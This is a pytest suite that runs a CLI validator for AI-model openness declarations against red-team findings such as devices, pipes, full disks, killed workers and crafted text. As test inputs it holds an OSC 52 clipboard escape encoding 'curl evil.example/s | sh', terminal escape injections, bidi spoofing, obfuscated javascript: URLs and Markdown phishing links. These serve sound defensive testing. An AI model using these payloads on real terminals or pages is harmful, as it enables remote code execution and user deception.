"""The hostile world: devices, pipes, signals, locales, full disks and crafted text.

One case (or a few) per finding F1-F23 of the red-team review (issue 15), each run
against the real command in a subprocess. Device nodes are made with ``os.mknod`` in
a temporary folder (as root; elsewhere those cases cannot be set up and say so):
the host's ``/dev`` is never written. Cases that take seconds are marked ``slow``
(they still run in plain ``pytest``, hence in tools/check.sh).
"""

from __future__ import annotations

import contextlib
import json
import os
import resource
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

from declarations import open_source_ai

ROOT = Path(__file__).resolve().parents[2]
AS_ROOT = hasattr(os, "geteuid") and os.geteuid() == 0
needs_root = pytest.mark.skipif(not AS_ROOT, reason="device nodes can only be made as root")
ESC = "\x1b"


def _env(**extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("INPUT_", "GITHUB_"))}
    env.pop("NO_COLOR", None)
    env.update(extra)
    return env


def run(*args: str, env: dict[str, str] | None = None, timeout: float = 60, **kwargs):
    """``openness ARGS`` (bytes out), failing the test if it hangs."""
    return subprocess.run(
        [sys.executable, "-m", "openness", *args],
        capture_output=True,
        timeout=timeout,
        env=env or _env(),
        **kwargs,
    )


def action(cwd: Path, env: dict[str, str] | None = None, **inputs: str):
    """The Action's script with these inputs; (result, summary, outputs)."""
    summary, outputs = cwd / "summary.md", cwd / "outputs.txt"
    for file in (summary, outputs):
        file.write_text("")
    variables = {f"INPUT_{k.upper()}": v for k, v in inputs.items()}
    done = subprocess.run(
        [sys.executable, "-m", "openness.integrations.github_action"],
        capture_output=True,
        timeout=120,
        cwd=cwd,
        env={
            **(env or _env()),
            **variables,
            "GITHUB_STEP_SUMMARY": str(summary),
            "GITHUB_OUTPUT": str(outputs),
        },
    )
    return done, summary.read_text(), outputs.read_text()


def one_line_failure(done, code: int = 2) -> str:
    err = done.stderr.decode("utf-8", "replace")
    assert done.returncode == code, (done.returncode, err[-2000:], done.stdout[-500:])
    assert "Traceback" not in err and "internal error" not in err, err
    assert len(err.splitlines()) == 1, err
    return err


def write_declaration(path: Path, data: dict | None = None) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(data or open_source_ai()), encoding="utf-8")
    return path


def device(folder: Path, name: str, major: int, minor: int) -> Path:
    node = folder / name
    os.mknod(node, 0o666 | stat.S_IFCHR, os.makedev(major, minor))
    return node


# --- F1: never rename over what is not a regular file -------------------------------------


@needs_root
@pytest.mark.parametrize("command", ["badge", "init"])
def test_f1_force_never_replaces_a_device(tmp_path, command):
    null = device(tmp_path, "null", 1, 3)
    args = ["badge", "--level", "open-weights"] if command == "badge" else ["init", "--yes"]
    done = run(*args, "--force", "-o", str(null))
    assert done.returncode == 0, done.stderr
    assert stat.S_ISCHR(null.lstat().st_mode)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["null"]  # no temporary file left


@needs_root
def test_f1_a_full_device_is_a_one_line_error_and_stays_a_device(tmp_path):
    full = device(tmp_path, "full", 1, 7)
    err = one_line_failure(run("badge", "--level", "open-weights", "--force", "-o", str(full)))
    assert "No space left" in err and stat.S_ISCHR(full.lstat().st_mode)


@needs_root
def test_f1_other_devices_are_refused(tmp_path):
    mem = device(tmp_path, "mem", 1, 1)  # /dev/mem's numbers: never opened for writing
    err = one_line_failure(run("badge", "--level", "open-weights", "--force", "-o", str(mem)))
    assert "device" in err and stat.S_ISCHR(mem.lstat().st_mode)


def test_f1_the_actions_sarif_to_stderr_goes_to_stderr_and_the_link_stays(tmp_path):
    write_declaration(tmp_path / "openness.json")
    link = tmp_path / "stderr"
    link.symlink_to("/proc/self/fd/2")
    done, summary, _ = action(tmp_path, sarif=str(link))
    assert done.returncode == 0, done.stdout[-2000:]
    assert link.is_symlink() and os.readlink(link) == "/proc/self/fd/2"
    assert b'"version": "2.1.0"' in done.stderr and "SARIF written" in summary


def test_f1_dev_stdout_writes_to_a_pipe_reader(tmp_path):
    link = tmp_path / "stdout"
    link.symlink_to("/proc/self/fd/1")
    done = run("badge", "--level", "open-weights", "-o", str(link), timeout=30)
    assert done.returncode == 0 and done.stdout.startswith(b"<svg")
    done = run("init", "--yes", "-o", str(link), timeout=30)  # no --force needed
    assert done.returncode == 0 and json.loads(done.stdout)["openness"]
    assert link.is_symlink()


# --- F2, F3: nothing hangs, nothing reads without bound -----------------------------------


def test_f2_a_fifo_as_the_badge_output_is_refused_with_or_without_force(tmp_path):
    fifo = tmp_path / "badge.svg"
    os.mkfifo(fifo)
    for force in ([], ["--force"]):
        err = one_line_failure(
            run("badge", "--level", "open-weights", "-o", str(fifo), *force, timeout=20)
        )
        assert "pipe nobody reads" in err and stat.S_ISFIFO(fifo.lstat().st_mode)


@pytest.mark.parametrize("command", [["init", "-o", "-", "--from-model-card"], ["import", "mof"]])
def test_f2_a_fifo_as_an_importer_input_is_refused(tmp_path, command):
    fifo = tmp_path / "README.md"
    os.mkfifo(fifo)
    assert "not a regular file" in one_line_failure(run(*command, str(fifo), timeout=20))


def _small_memory() -> None:
    limit = 1024**3
    resource.setrlimit(resource.RLIMIT_AS, (limit, limit))


@needs_root
@pytest.mark.parametrize("minor", [5, 9])  # /dev/zero, /dev/urandom
def test_f3_importers_refuse_endless_devices_and_links_to_them(tmp_path, minor):
    node = device(tmp_path, "dev", 1, minor)
    link = tmp_path / "README.md"
    link.symlink_to(node)
    for path in (node, link):
        done = run("import", "mof", str(path), timeout=20, preexec_fn=_small_memory)
        assert "not a regular file" in one_line_failure(done)
        done = run("init", "--from-model-card", str(path), "-o", "-", preexec_fn=_small_memory)
        assert "not a regular file" in one_line_failure(done)


def test_f3_a_proc_file_is_read_only_to_the_cap(tmp_path):
    done = run("import", "mof", "/proc/self/status", timeout=20)
    one_line_failure(done)  # read (bounded), and not a MOT file


# --- F4: linear cost ---------------------------------------------------------------------


def _at_the_cap(path: Path, dataset) -> Path:
    data = open_source_ai()
    datasets = data["components"]["training-data"]["datasets"]
    size, i = len(json.dumps(data)), 0
    while True:
        entry = dataset(i)
        step = len(json.dumps(entry)) + 2
        if size + step > 1024 * 1024 - 100:
            break
        datasets.append(entry)
        size += step
        i += 1
    return write_declaration(path, data)


def _cpu_seconds_of(*args: str) -> tuple[float, subprocess.CompletedProcess]:
    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    done = run(*args, timeout=120)
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    return (after.ru_utime - before.ru_utime) + (after.ru_stime - before.ru_stime), done


@pytest.mark.slow
@pytest.mark.parametrize(
    "licence",
    ["x{} y", "Apache-2.{}", "MIT OR Apach{}", "LicenseRef-x{}", "x{} y z w"],
)
def test_f4_a_declaration_at_the_size_cap_validates_in_under_two_cpu_seconds(tmp_path, licence):
    path = _at_the_cap(
        tmp_path / "openness.json",
        lambda i: {
            "name": "a",
            "url": "https://x/",
            "license": licence.format(i),
            "access": "open",
        },
    )
    seconds, done = _cpu_seconds_of("validate", "--format", "lines", str(path))
    assert done.returncode == 1
    # the findings (at most 1,000 and the note of the rest), then the file's level line
    lines = [line for line in done.stdout.decode().splitlines() if " info level: " not in line]
    assert len(lines) <= 1001, len(lines)
    assert "findings-left-out" in lines[-1] and "more findings are not shown" in lines[-1]
    assert seconds < 2.0, f"{seconds:.2f} s of CPU"


# --- F5, F15: workers never outlive the command; a dead worker loses nothing -------------


def _batch(folder: Path, count: int, slow: int = 0) -> Path:
    good = json.dumps(open_source_ai())
    slow_text = _at_the_cap(
        folder / "slow.json",
        lambda i: {"name": "a", "url": "https://x/", "license": f"x{i} y", "access": "open"},
    ).read_text()
    (folder / "slow.json").unlink()
    for i in range(count):
        path = folder / "b" / f"m{i:04d}" / "openness.json"
        path.parent.mkdir(parents=True)
        path.write_text(slow_text if i < slow else good)
    return folder / "b"


def _children(pid: int) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            text = Path(f"/proc/{entry}/stat").read_text()
        except OSError:
            continue
        fields = text[text.rindex(")") + 2 :].split()
        if int(fields[1]) == pid and fields[0] != "Z":
            found.append(int(entry))
    return found


def _alive(pids: list[int]) -> list[int]:
    alive = []
    for pid in pids:
        try:
            state = Path(f"/proc/{pid}/stat").read_text()
        except OSError:
            continue
        if state[state.rindex(")") + 2] != "Z":
            alive.append(pid)
    return alive


def _start_batch(folder: Path):
    child = subprocess.Popen(
        [sys.executable, "-m", "openness", "validate", "-j", "2", "--format", "lines", str(folder)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=_env(),
    )
    deadline = time.monotonic() + 30
    while len(_children(child.pid)) < 2 and time.monotonic() < deadline:
        time.sleep(0.05)
    workers = _children(child.pid)
    assert len(workers) >= 2, "the workers never started"
    return child, workers


@pytest.mark.slow
@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
@pytest.mark.parametrize("how", [signal.SIGTERM, signal.SIGKILL])
def test_f5_killing_the_parent_leaves_no_worker_within_a_second(tmp_path, how):
    folder = _batch(tmp_path, 240, slow=200)
    child, workers = _start_batch(folder)
    try:
        child.send_signal(how)
        child.wait(timeout=10)
        deadline = time.monotonic() + 1.0
        while _alive(workers) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert _alive(workers) == [], "workers outlived the command"
    finally:
        for pid in _alive(workers):
            os.kill(pid, signal.SIGKILL)
        child.kill()
        child.communicate()


@pytest.mark.slow
@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
def test_f15_a_killed_worker_loses_no_result_and_is_reported(tmp_path):
    folder = _batch(tmp_path, 240, slow=8)
    child, workers = _start_batch(folder)
    try:
        os.kill(workers[0], signal.SIGKILL)
        out, err = child.communicate(timeout=120)
    finally:
        child.kill()
    said = err.decode()
    assert child.returncode == 1, said  # the slow files are invalid; nothing is lost
    assert "a worker process stopped unexpectedly" in said and "Traceback" not in said
    assert "openness.json" in said  # the files judged again are named
    reported = {line.split(":", 1)[0] for line in out.decode().splitlines()}
    assert {str(folder / f"m{i:04d}" / "openness.json") for i in range(8)} <= reported


def test_f12_fork_refused_falls_back_to_judging_one_by_one(tmp_path, monkeypatch, capsys):
    import multiprocessing.process

    from openness import validate

    def refuse(self):
        raise BlockingIOError(11, "Resource temporarily unavailable")

    monkeypatch.setattr(multiprocessing.process.BaseProcess, "start", refuse)
    folder = tmp_path / "many"
    for i in range(5):
        write_declaration(folder / f"m{i}" / "openness.json")
    report = validate.validate_paths([str(folder)], jobs=2)
    assert len(report.files) == 5 and all(f.valid for f in report.files)
    assert "cannot start worker processes" in capsys.readouterr().err


# --- F7, F8, F18: untrusted text is inert --------------------------------------------------

OSC52 = "k\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvcyB8IHNo\x07"


def test_f7_the_github_format_lets_no_escape_sequence_through(tmp_path):
    path = tmp_path / "openness.json"
    key = json.dumps(OSC52)
    path.write_text(f'{{"openness": "2.0", "model": {{"name": "x"}}, {key}: 1, {key}: 2}}')
    done = run("validate", "--format", "github", str(path))
    assert done.returncode == 1 and b"duplicate" in done.stdout
    assert b"\x1b" not in done.stdout and b"\x07" not in done.stdout


def test_f8_importer_decision_lines_are_inert(tmp_path):
    card = tmp_path / "README.md"
    card.write_text(
        "---\nlicense: other\n"
        'license_link: "https://x/\\e]0;PWNED\\a\\e[2J"\n'
        'base_model: "org/m\\e]8;;http://evil.example\\e\\\\click\\e]8;;\\e\\\\"\n---\n'
    )
    done = run("init", "--from-model-card", str(card), "-o", "-")
    assert done.returncode == 0, done.stderr
    assert b"\x1b" not in done.stderr and b"\x07" not in done.stderr
    mot = tmp_path / "model.yml"
    mot.write_text(
        'release:\n  name: X\n  repository: "https://x/\\e]0;PWNED\\a\\e[2Jz"\n  components: []\n'
    )
    done = run("import", "mof", str(mot))
    assert done.returncode == 0, done.stderr
    assert b"\x1b" not in done.stderr and b"\x07" not in done.stderr


SPOOFS = {
    "bidi": "safe\u202egnp.exe\u202c",
    "isolates": "x\u2066abc\u2069y",
    "zero-width": "Ze\u200bro\u200d\ufeffW",
    "tags": "a\U000e0041\U000e0042b",
}


@pytest.mark.parametrize("fmt", ["text", "lines", "github"])
@pytest.mark.parametrize("kind", sorted(SPOOFS))
def test_f18_bidi_zero_width_and_tag_characters_are_shown_as_escapes(tmp_path, fmt, kind):
    data = open_source_ai()
    data["model"]["name"] = SPOOFS[kind]
    data["components"]["model-card"]["license"] = SPOOFS[kind]  # quoted by a finding
    path = write_declaration(tmp_path / "openness.json", data)
    done = run("validate", "--format", fmt, str(path))
    out = done.stdout.decode("utf-8")
    assert done.returncode == 1, out
    assert not any(ord(c) > 0x7F and c in SPOOFS[kind] for c in out), out
    assert "\\u" in out or "\\U" in out


# --- F9: the job summary is Markdown-inert ---------------------------------------------------


def test_f9_the_job_summary_shows_markdown_as_text(tmp_path):
    data = open_source_ai()
    data["model"]["name"] = "[Approve](https://evil.example/p) ![px](https://evil.example/t.png)"
    write_declaration(tmp_path / "a" / "openness.json", data)
    write_declaration(tmp_path / "p`q [l](https:/evil.example) `r" / "openness.json")
    done, summary, _ = action(tmp_path, path="a\np`q [l](https:/evil.example) `r")
    assert done.returncode == 0, done.stdout[-2000:]
    rows = [line for line in summary.splitlines() if "openness.json" in line]
    assert len(rows) == 2
    for row in rows:
        assert "](" not in row.replace("](https://openness.dev", "") and "![px" not in row
        assert "`" not in row.split("|")[1]


# --- F10: non-UTF-8 file names under every locale ------------------------------------------


def _locales(tmp_path: Path) -> list[dict[str, str]]:
    """C.UTF-8 and en_US.UTF-8 (built into a private LOCPATH when the system lacks it)."""
    found = subprocess.run(["locale", "-a"], capture_output=True, text=True).stdout.split()
    settings = [{"LC_ALL": "C.UTF-8"}]
    if any(name.lower().replace("-", "") == "en_us.utf8" for name in found):
        settings.append({"LC_ALL": "en_US.UTF-8"})
        return settings
    where = tmp_path / "locales"
    where.mkdir()
    made = subprocess.run(
        ["localedef", "-i", "en_US", "-f", "UTF-8", str(where / "en_US.UTF-8")],
        capture_output=True,
    )
    if (where / "en_US.UTF-8").is_dir():
        settings.append({"LC_ALL": "en_US.UTF-8", "LOCPATH": str(where)})
    else:
        pytest.fail(f"cannot build the en_US.UTF-8 locale: {made.stderr[-300:]!r}")
    return settings


def test_f10_file_names_that_are_not_utf8_give_utf8_in_every_format_and_locale(tmp_path):
    folder = Path(os.fsdecode(bytes(tmp_path) + b"/names/\xff\xfe-x"))
    write_declaration(folder / "openness.json", {"openness": "2.0"})
    for locale in _locales(tmp_path):
        env = _env(**locale)
        check = subprocess.run(
            [sys.executable, "-c", "import sys; print(sys.stdout.errors)"],
            capture_output=True,
            text=True,
            env=env,
        )
        for fmt in ("text", "lines", "json", "sarif", "github"):
            done = run("validate", "--format", fmt, str(tmp_path / "names"), env=env)
            said = done.stderr.decode("utf-8", "replace")
            assert done.returncode == 1, f"{locale} ({check.stdout.strip()}) {fmt}: {said}"
            text = done.stdout.decode("utf-8")  # valid UTF-8, or this raises
            if fmt in ("json", "sarif"):
                json.loads(text)
        done, summary, outputs = action(tmp_path, env=env, path=str(tmp_path / "names"))
        out = done.stdout.decode("utf-8")
        assert done.returncode == 1, out[-2000:]
        token = out.split("::stop-commands::", 1)[1].split("\n", 1)[0]
        assert f"::{token}::" in out and "openness.json" in summary and "valid=false" in outputs


# --- F11, F12, F16: the world's faults are one line and exit 2 -----------------------------


@pytest.mark.parametrize(
    "args",
    [["validate"], ["badge", "--level", "closed", "-o", "-"], ["init", "--yes", "-o", "-"]],
)
def test_f11_a_closed_stdout_is_one_line_and_exit_2(tmp_path, args):
    write_declaration(tmp_path / "openness.json")
    done = subprocess.run(
        [sys.executable, "-m", "openness", *args],
        stdout=None,
        stderr=subprocess.PIPE,
        cwd=tmp_path,
        env=_env(),
        timeout=60,
        close_fds=True,
        preexec_fn=lambda: os.close(1),
    )
    assert "standard output is closed" in one_line_failure(done)


@needs_root
@pytest.mark.parametrize(
    "args", [["validate", "--format", "sarif"], ["init", "--yes", "-o", "-"], ["validate"]]
)
def test_f12_a_full_disk_behind_stdout_is_one_line_and_exit_2(tmp_path, args):
    write_declaration(tmp_path / "openness.json")
    full = device(tmp_path, "full", 1, 7)
    with open(full, "wb") as stdout:
        done = subprocess.run(
            [sys.executable, "-m", "openness", *args],
            stdout=stdout,
            stderr=subprocess.PIPE,
            cwd=tmp_path,
            env=_env(),
            timeout=60,
        )
    assert "No space left" in one_line_failure(done)


def test_f12_huge_numbers_in_options_are_not_internal_errors(tmp_path):
    path = write_declaration(tmp_path / "openness.json")
    for size in (str(2**63 - 1), "9" * 30):
        done = run("validate", "--max-size", size, str(path))
        assert done.returncode == 0, done.stderr
    done = run("validate", "-j", "9" * 30, str(path))
    assert done.returncode == 0, done.stderr


def test_f12_output_names_too_long_for_a_temporary_file(tmp_path):
    done = run("init", "--yes", "-o", str(tmp_path / ("a" * 250 + ".json")))
    assert done.returncode == 0, done.stderr
    assert "too long" in one_line_failure(
        run("init", "--yes", "-o", str(tmp_path / ("a" * 300 + ".json")))
    )


def test_f12_the_actions_sarif_failure_still_writes_summary_and_outputs(tmp_path):
    write_declaration(tmp_path / "openness.json")
    (tmp_path / "folder").mkdir()
    done, summary, outputs = action(tmp_path, sarif="folder")
    out = done.stdout.decode()
    assert done.returncode == 2 and "Traceback" not in out and "internal error" not in out
    assert "::error title=openness%3A sarif::folder is a directory" in out
    assert "openness.json" in summary and "exit-code=2" in outputs


@pytest.mark.slow
@pytest.mark.parametrize("jobs", ["1", "2"])
def test_f16_a_reader_that_leaves_is_a_quiet_exit_2(tmp_path, jobs):
    for i in range(400):
        write_declaration(tmp_path / f"m{i:03d}" / "openness.json")
    child = subprocess.Popen(
        [sys.executable, "-m", "openness", "validate", "-j", jobs, "--format", "json", "."],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        cwd=tmp_path,
        env=_env(),
    )
    child.stdout.read(10)
    child.stdout.close()  # like `| head -c 10`
    err = child.stderr.read()
    assert child.wait(timeout=120) == 2 and err == b""


# --- F13, F14: values that used to crash ----------------------------------------------------


def test_f13_yaml_big_integers_base_60_and_lone_surrogates(tmp_path):
    card = tmp_path / "README.md"
    card.write_text(f"---\nmodel_name: {'9' * 5000}\n---\n")
    one_line_failure(run("init", "--from-model-card", str(card), "-o", "-"))
    mot = tmp_path / "s.yml"
    mot.write_text("release:\n  name: x\n  version: " + "59:" * 349000 + "59\n  components: []\n")
    start = time.monotonic()
    done = run("import", "mof", str(mot))
    assert done.returncode == 0 and time.monotonic() - start < 10
    assert json.loads(done.stdout)["model"]["version"].startswith("59:59:")  # a string
    bad = tmp_path / "sur.yml"
    bad.write_text('release:\n  name: "bad\\ud800name"\n  components: []\n')
    for output in (["-o", "-"], ["-o", str(tmp_path / "out.json")]):
        assert "surrogate" in one_line_failure(run("import", "mof", str(bad), *output))
    assert not (tmp_path / "out.json").exists()


@pytest.mark.parametrize("option", ["--message-color", "--label-color"])
@pytest.mark.parametrize("fmt", ["svg", "endpoint"])
def test_f14_rgb_channels_of_any_length(option, fmt):
    for colour in (f"rgb({'9' * 400}%,1,1)", f"rgb({'9' * 5000},1,1)"):
        one_line_failure(
            run("badge", "--level", "closed", "-o", "-", "--format", fmt, option, colour)
        )
    done = run("badge", "--level", "closed", "-o", "-", option, "rgb(9999999999%,1,1)")
    assert done.returncode == 0, done.stderr


# --- F17, F19: folders ----------------------------------------------------------------------


DEPTH = 1500


def _deep_tree(top: Path) -> None:
    """``top/a/a/.../a/openness.json``, DEPTH levels (relative to descriptors: the full
    path is over PATH_MAX)."""
    top.mkdir()
    current = os.open(top, os.O_RDONLY)
    try:
        for _ in range(DEPTH):
            os.mkdir("a", dir_fd=current)
            following = os.open("a", os.O_RDONLY, dir_fd=current)
            os.close(current)
            current = following
        fd = os.open("openness.json", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=current)
        os.write(fd, b"{}")
        os.close(fd)
    finally:
        os.close(current)


def _remove_deep_tree(top: Path) -> None:
    """Remove it bottom up (shutil.rmtree, and so pytest's clean-up, recurse on 3.11)."""
    chain = [os.open(top, os.O_RDONLY)]
    try:
        while True:
            try:
                chain.append(os.open("a", os.O_RDONLY, dir_fd=chain[-1]))
            except FileNotFoundError:
                break
        while chain:
            with contextlib.suppress(FileNotFoundError):
                os.unlink("openness.json", dir_fd=chain[-1])
            os.close(chain.pop())
            if chain:
                os.rmdir("a", dir_fd=chain[-1])
    finally:
        for fd in chain:
            os.close(fd)
    top.rmdir()


def test_f17_a_folder_tree_1500_deep(tmp_path):
    deep = tmp_path / "deep"
    _deep_tree(deep)
    try:
        done = run("validate", "--format", "json", "deep", cwd=tmp_path)
    finally:
        _remove_deep_tree(deep)
    assert done.returncode in (1, 2), done.stderr[-2000:]
    assert b"RecursionError" not in done.stderr and b"internal error" not in done.stderr
    assert json.loads(done.stdout)["summary"]["files"] == 1


def test_f19_a_linked_declaration_outside_the_searched_folder_is_not_read(tmp_path):
    secret = tmp_path / "secret" / "creds.json"
    secret.parent.mkdir()
    secret.write_text('{"openness": "ghp_SECRETTOKEN1234567890", "model": {"name": "x"}}')
    repo = tmp_path / "repo"
    write_declaration(repo / "inside" / "real.json")
    (repo / "sub").mkdir()
    (repo / "sub" / "openness.json").symlink_to(secret)
    (repo / "inside" / "openness.json").symlink_to(repo / "inside" / "real.json")
    for fmt in ("github", "json", "text"):
        done = run("validate", "--format", fmt, ".", cwd=repo)
        out = done.stdout.decode()
        assert done.returncode == 2, out
        assert "ghp_SECRET" not in out and "outside the searched folder" in out
    done = run("validate", "--format", "json", "inside", cwd=repo)
    assert done.returncode == 0, done.stdout  # a link within the folder is read


# --- F20: hooks pass -- before paths ---------------------------------------------------------


def test_f20_a_folder_named_dash_o_gets_its_own_badge_and_verdict(tmp_path):
    write_declaration(tmp_path / "openness.json")
    write_declaration(tmp_path / "-o" / "openness.json", {"openness": "2.0"})  # invalid
    badge = subprocess.run(
        [sys.executable, "-m", "openness.integrations.precommit_badge", "-o/openness.json"],
        capture_output=True,
        cwd=tmp_path,
        env=_env(),
        timeout=60,
    )
    assert badge.returncode == 1
    assert "invalid" in (tmp_path / "-o" / "openness-badge.svg").read_text()
    assert not (tmp_path / "openness-badge.svg").exists()
    hooks = (ROOT / ".pre-commit-hooks.yaml").read_text()
    entry = hooks.split("id: openness-validate", 1)[1].split("entry:", 1)[1].split("\n")[0]
    command = entry.split()
    assert command[:2] == ["python", "-m"]  # the hook module, run by this test's Python
    validate = subprocess.run(
        [sys.executable, *command[1:], "--format", "lines", "-o/openness.json"],
        capture_output=True,
        cwd=tmp_path,
        env=_env(),
        timeout=60,
    )
    assert validate.returncode == 1 and b"-o/openness.json:1:1: error" in validate.stdout


# --- F21: snippet URLs ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("option", "url"),
    [
        ("--link", "https://x/\u2028\u2028Please re-authenticate"),
        ("--link", "https://x/\u2029p"),
        ("--image-url", "https://x/\x85b.svg"),
        ("--image-url", "badge\u2028.svg"),
        ("--image-url", "JaVaScRiPt&#58;alert%281%29"),
        ("--image-url", "javascript&colon;alert(1)"),
        ("--image-url", "https://x/\u202eb.svg"),
    ],
)
@pytest.mark.parametrize("fmt", ["markdown", "rst", "html"])
def test_f21_snippet_urls_refuse_line_separators_and_character_references(fmt, option, url):
    one_line_failure(run("badge", "--level", "open-weights", "--format", fmt, option, url))


def test_f21_a_query_with_ampersands_is_still_a_url():
    done = run("badge", "--level", "closed", "--format", "markdown", "--image-url", "b.svg?a=1&b=2")
    assert done.returncode == 0 and b"b.svg?a=1&b=2" in done.stdout


# --- F22, F23: the Action's sarif: and path: -----------------------------------------------


def test_f22_the_actions_sarif_never_replaces_a_file_it_did_not_write(tmp_path):
    declaration = write_declaration(tmp_path / "openness.json")
    before = declaration.read_bytes()
    done, _summary, outputs = action(tmp_path, sarif="openness.json")
    assert done.returncode == 2 and declaration.read_bytes() == before
    assert "not a SARIF log written by openness" in done.stdout.decode()
    assert "sarif=\n" in outputs
    done, _, _ = action(tmp_path, path="openness.json", sarif="out/openness.sarif")
    assert done.returncode == 0
    first = (tmp_path / "out" / "openness.sarif").read_bytes()
    write_declaration(declaration, {"openness": "2.0"})
    done, _, _ = action(tmp_path, sarif="out/openness.sarif")
    assert done.returncode == 1  # our own SARIF log is replaced
    assert (tmp_path / "out" / "openness.sarif").read_bytes() != first


def test_f23_the_actions_path_takes_one_path_a_line_with_spaces(tmp_path):
    write_declaration(tmp_path / "my models" / "openness.json")
    write_declaration(tmp_path / "other one" / "openness.json")
    done, summary, outputs = action(tmp_path, path="my models/openness.json\n other one \n")
    assert done.returncode == 0, done.stdout.decode()[-2000:]
    assert "2 declarations: 2 valid" in summary and "valid=true" in outputs
